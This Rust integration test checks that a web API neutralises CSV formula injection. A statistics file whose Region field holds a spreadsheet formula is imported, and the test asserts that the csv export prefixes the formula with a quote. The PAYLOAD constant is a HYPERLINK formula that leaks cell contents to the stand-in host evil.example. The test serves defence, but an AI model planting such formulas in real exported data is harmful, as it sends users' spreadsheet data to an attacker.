//! CSV formula injection through the public API (issue #10, item 8): a
//! statistics file whose Region column carries a spreadsheet formula is
//! imported, and `format=csv` must not hand the formula to a spreadsheet.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use axum::body::Body;
use axum::http::{Request, StatusCode};
use palermo_import::glotip::{GlotipOptions, GlotipReader};
use palermo_store::stats::NullSink;
use palermo_store::Store;
use tower::ServiceExt;

/// OWASP's example payload (CSV Injection page).
const PAYLOAD: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";

#[test]
fn a_formula_in_an_imported_region_is_neutralised_in_format_csv() {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
        .block_on(async {
            let store = Store::open_in_memory().await.unwrap();
            let idx = store.country_index().await.unwrap();
            let file = format!(
                "Iso3_code,Country,Region,Subregion,Indicator,Dimension,Category,Sex,Age,Year,Unit of measurement,txtVALUE,Source\n\
                 MDA,Republic of Moldova,\"{}\",Eastern Europe,Detected trafficking victims,Total,Total,Total,Total,2019,Counts,3,GLOTIP\n",
                PAYLOAD.replace('"', "\"\"")
            );
            let r = GlotipReader::new("inj.csv", file.as_bytes(), &idx, GlotipOptions::default())
                .unwrap();
            store
                .import_statistics("inj", "inj.csv", r, false, &mut NullSink::default())
                .await
                .unwrap();
            let app = palermo_web::router(store);
            let res = app
                .oneshot(
                    Request::get("/api/v1/statistics/indicators?by=region&format=csv")
                        .body(Body::empty())
                        .unwrap(),
                )
                .await
                .unwrap();
            assert_eq!(res.status(), StatusCode::OK);
            let body = axum::body::to_bytes(res.into_body(), 1 << 24).await.unwrap();
            let mut rdr = csv::Reader::from_reader(&body[..]);
            let headers = rdr.headers().unwrap().clone();
            let col = headers.iter().position(|h| h == "region").unwrap();
            let regions: Vec<String> = rdr
                .records()
                .map(|r| r.unwrap()[col].to_owned())
                .collect();
            // The region as imported, behind a quote: text, not a formula.
            assert!(regions.contains(&format!("'{PAYLOAD}")), "{regions:?}");
            for r in rdr_fields(&body) {
                assert!(
                    !r.starts_with(['=', '+', '@', '\t', '\r']),
                    "a formula reached the CSV: {r:?}"
                );
            }
        });
}

/// Every field of a CSV body.
fn rdr_fields(body: &[u8]) -> Vec<String> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body)
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}
